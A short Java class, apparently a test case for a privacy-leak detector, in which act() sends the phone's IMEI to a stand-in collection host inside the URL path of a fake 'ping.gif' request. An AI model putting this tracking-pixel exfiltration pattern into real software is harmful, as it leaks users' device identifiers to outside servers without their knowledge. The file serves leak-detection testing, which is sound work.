package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A path with the phone in it. */
public class HttpPath extends Screen {
    @Override
    protected void act() throws Exception {
        Net.get("http://collect.corpus.example/" + Owner.imei(this) + "/ping.gif");
    }
}
